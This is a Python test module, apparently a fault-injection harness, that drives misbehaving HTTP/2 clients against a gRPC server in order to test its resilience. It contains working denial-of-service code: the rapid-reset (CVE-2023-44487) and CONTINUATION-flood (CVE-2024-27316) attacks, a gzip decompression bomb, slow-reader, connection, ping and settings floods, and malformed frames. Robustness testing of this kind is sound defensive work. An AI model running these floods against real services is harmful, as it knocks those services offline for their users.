"""Clients that misbehave, in a process of their own: `python -m tests.faults.abuse HOST:PORT SEED TOKEN [KIND …]`.

TOKEN is one with which a client may read, and publish: most of those who misbehave are let in. Each kind of abuse goes on in a thread until the input ends; then how often each was done is printed as JSON. They speak HTTP/2 by
hand where no library would do what they do.
"""

from __future__ import annotations

import contextlib
import functools
import gzip
import json
import os
import random
import socket
import struct
import sys
import threading
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from typing import Final

from peerload.wire import sources_pb2
from tests.support.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    block,
    frame,
    message,
)

_LIST: Final = "/model_express.p2p.P2pService/ListSources"
_PUBLISH: Final = "/model_express.p2p.P2pService/PublishMetadata"
_WATCH: Final = "/peerload.v1.SourceService/Watch"
_BOMB_BYTES: Final = 200 << 20
_PATIENCE: Final = 10.0


class Abuse:
    """All kinds of it, against one address, until `over`."""

    def __init__(
        self, host: str, port: int, seed: int, token: str, over: threading.Event, only: Sequence[str] = ()
    ) -> None:
        self._where = host, port
        self._token = "authorization", f"Bearer {token}"
        self._seed = seed
        self._over = over
        self._only = only
        self.done: Counter[str] = Counter()

    def run(self) -> None:
        """Until it is over."""
        kinds: Sequence[Callable[[random.Random], None]] = (
            *(self.slow_readers, self.half_open, self.connect_flood, self.request_flood, self.bombs, self.oversized),
            *(self.reset_storm, self.ping_flood, self.settings_flood, self.endless_bodies, self.endless_headers),
            *(self.garbage, self.bad_tokens),
        )
        threads = [
            threading.Thread(target=self._repeat, args=(kind,), daemon=True)
            for kind in kinds
            if not self._only or kind.__name__ in self._only
        ]
        for thread in threads:
            thread.start()
        self._over.wait()
        for thread in threads:
            thread.join(_PATIENCE * 2)

    def _repeat(self, kind: Callable[[random.Random], None]) -> None:
        rng = random.Random(f"{self._seed} {kind.__name__}")
        while not self._over.wait(rng.uniform(0.02, 0.2)):
            # That the server hangs up is what it is there for.
            with contextlib.suppress(OSError):
                kind(rng)
            self.done[kind.__name__] += 1

    @contextlib.contextmanager
    def _connection(self, *, greet: bool = True, buffer: int | None = None) -> Iterator[socket.socket]:
        with socket.socket() as sock:
            sock.settimeout(_PATIENCE)
            if buffer is not None:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
            sock.connect(self._where)
            if greet:
                # Windows as large as can be: whatever the server has to say, it is not held back by them.
                sock.sendall(PREFACE + frame(SETTINGS, payload=struct.pack(">HI", 4, 2**31 - 1)))
                sock.sendall(frame(WINDOW_UPDATE, payload=struct.pack(">I", 2**31 - 1 - 65_535)))
            yield sock

    def _drain(self, sock: socket.socket, seconds: float) -> None:
        """Read for so long, or until the server hangs up."""
        sock.settimeout(seconds)
        with contextlib.suppress(TimeoutError):
            while not self._over.is_set() and sock.recv(1 << 16):
                pass

    def _headers(self, path: str, *more: tuple[str, str]) -> bytes:
        return block(path, self._token, *more)

    # The kinds.

    def slow_readers(self, rng: random.Random) -> None:
        """Ask for large answers and for watches, and read nothing, or a few bytes now and then."""
        with contextlib.ExitStack() as stack:
            group = [stack.enter_context(self._connection(buffer=4096)) for _ in range(10)]
            for sock in group:
                for stream in range(1, 20, 2):
                    body = message(sources_pb2.WatchRequest().SerializeToString())
                    sock.sendall(
                        frame(HEADERS, END_HEADERS, stream, self._headers(rng.choice((_WATCH, _LIST))))
                        + frame(DATA, END_STREAM, stream, body)
                    )
            for _ in range(rng.randint(2, 10)):
                if self._over.wait(1.0):
                    return
                rng.choice(group).recv(rng.choice((1, 100)))

    def half_open(self, rng: random.Random) -> None:
        """Connect, say a part of the greeting or nothing, stay, and go without a word."""
        with contextlib.ExitStack() as stack:
            for _ in range(20):
                sock = stack.enter_context(self._connection(greet=False))
                sock.sendall(PREFACE[: rng.randrange(len(PREFACE))])
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self._over.wait(rng.uniform(0.5, 5.0))

    def connect_flood(self, rng: random.Random) -> None:
        """A hundred connections at once, each closed as soon as it is there."""
        for _ in range(100):
            with self._connection(greet=rng.random() < 0.5):
                pass

    def request_flood(self, rng: random.Random) -> None:
        """Hundreds of calls on one connection in one go."""
        with self._connection() as sock:
            calls = [
                frame(HEADERS, END_HEADERS, stream, self._headers(_LIST))
                + frame(DATA, END_STREAM, stream, message(b""))
                for stream in range(1, 2 * rng.choice((50, 300)), 2)
            ]
            sock.sendall(b"".join(calls))
            self._drain(sock, 1.0)

    def bombs(self, rng: random.Random) -> None:
        """A message of two hundred megabytes of nothing, compressed to two hundred kilobytes."""
        with self._connection() as sock:
            encoded = self._headers(_PUBLISH, ("grpc-encoding", "gzip"))
            sock.sendall(frame(HEADERS, END_HEADERS, 1, encoded))
            self._pour(sock, 1, message(_bomb(), compressed=True))
            self._drain(sock, 2.0)
        self._over.wait(rng.uniform(0.5, 1.5))

    def oversized(self, rng: random.Random) -> None:
        """A message that says it has gigabytes, or a hundred megabytes that are on their way."""
        with self._connection() as sock:
            sock.sendall(frame(HEADERS, END_HEADERS, 1, self._headers(_PUBLISH)))
            if rng.random() < 0.5:
                sock.sendall(frame(DATA, 0, 1, message(bytes(100), size=2**32 - 1)))
            else:
                self._pour(sock, 1, message(bytes(20 << 20), size=100 << 20))
            self._drain(sock, 1.0)

    def reset_storm(self, rng: random.Random) -> None:
        """Begin calls and reset them in the same breath (CVE-2023-44487)."""
        with self._connection() as sock:
            block = self._headers(rng.choice((_LIST, _WATCH)))
            for start in range(1, 4000, 400):
                sock.sendall(
                    b"".join(
                        frame(HEADERS, END_HEADERS, stream, block)
                        + frame(DATA, END_STREAM, stream, message(b""))
                        + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                        for stream in range(start, start + 400, 2)
                    )
                )
                if self._over.wait(0.02):
                    return
            self._drain(sock, 0.2)

    def ping_flood(self, rng: random.Random) -> None:
        """Thousands of pings whose answers are not read."""
        with self._connection(buffer=4096) as sock:
            for _ in range(20):
                sock.sendall(frame(PING, payload=bytes(8)) * 500)
                if self._over.wait(0.02):
                    return

    def settings_flood(self, rng: random.Random) -> None:
        """The same with settings, each of which is to be acknowledged."""
        with self._connection(buffer=4096) as sock:
            for size in range(20):
                sock.sendall(frame(SETTINGS, payload=struct.pack(">HI", 1, size)) * 500)
                if self._over.wait(0.02):
                    return

    def endless_bodies(self, rng: random.Random) -> None:
        """Requests that come byte by byte and do not end."""
        with contextlib.ExitStack() as stack:
            group = [stack.enter_context(self._connection()) for _ in range(10)]
            for sock in group:
                sock.sendall(frame(HEADERS, END_HEADERS, 1, self._headers(_PUBLISH)))
                sock.sendall(frame(DATA, 0, 1, message(b"", size=1 << 20)))
            for _ in range(rng.randint(10, 100)):
                for sock in group:
                    sock.sendall(frame(DATA, 0, 1, b"x"))
                if self._over.wait(0.1):
                    return

    def endless_headers(self, rng: random.Random) -> None:
        """Headers that go on and on (CVE-2024-27316)."""
        with self._connection() as sock:
            sock.sendall(frame(HEADERS, 0, 1, self._headers(_LIST)))
            more = block(_LIST, *((f"x-{number}", "y" * 100) for number in range(80)))[-8000:]
            for _ in range(500):
                sock.sendall(frame(CONTINUATION, 0, 1, more))

    def garbage(self, rng: random.Random) -> None:
        """What is no HTTP/2, or no more."""
        with self._connection(greet=rng.random() < 0.7) as sock:
            sock.sendall(
                rng.choice(
                    (
                        lambda: rng.randbytes(5000),
                        lambda: b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
                        lambda: bytes.fromhex("16030100c8010000c40303") + rng.randbytes(200),
                        lambda: frame(
                            rng.randrange(12), rng.randrange(256), rng.choice((0, 1, 2, 2**31)), rng.randbytes(50)
                        ),
                        lambda: frame(HEADERS, END_HEADERS, 1, rng.randbytes(100)),
                        lambda: (
                            frame(HEADERS, END_HEADERS, 1, block("/no.Such/Method"))
                            + frame(DATA, 1, 1, rng.randbytes(9))
                        ),
                        lambda: (
                            frame(HEADERS, END_HEADERS, 1, self._headers(_LIST))
                            + frame(DATA, 1, 1, message(rng.randbytes(90)))
                        ),
                    )
                )()
            )
            self._drain(sock, 0.5)

    def bad_tokens(self, rng: random.Random) -> None:
        """Calls by nobody, and by those who say that they are somebody."""
        with self._connection() as sock:
            for stream in range(1, 100, 2):
                token = rng.choice(("Bearer ", "Bearer nonsense", "Basic eA==", "Bearer " + "x" * 100))
                sock.sendall(
                    frame(HEADERS, END_HEADERS, stream, block(_LIST, ("authorization", token)))
                    + frame(DATA, END_STREAM, stream, message(b""))
                )
            self._drain(sock, 0.5)

    def _pour(self, sock: socket.socket, stream: int, data: bytes) -> None:
        """Send a body as fast as the server takes it, heedless of its windows but for giving it time to say no."""
        for start in range(0, len(data), 16_384):
            sock.sendall(frame(DATA, 0, stream, data[start : start + 16_384]))
            if start % (1 << 20) == 0 and self._over.wait(0.01):
                return


@functools.cache
def _bomb() -> bytes:
    return gzip.compress(bytes(_BOMB_BYTES), 9)


def main(address: str, seed: int, token: str, *only: str) -> None:
    """Go on until the input ends."""
    os.nice(19)
    _bomb()
    host, _, port = address.rpartition(":")
    over = threading.Event()
    abuse = Abuse(host, int(port), seed, token, over, only)
    thread = threading.Thread(target=abuse.run)
    print("ready", flush=True)
    sys.stdin.readline()
    thread.start()
    sys.stdin.read()
    over.set()
    thread.join()
    print(json.dumps(abuse.done), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), *sys.argv[3:])
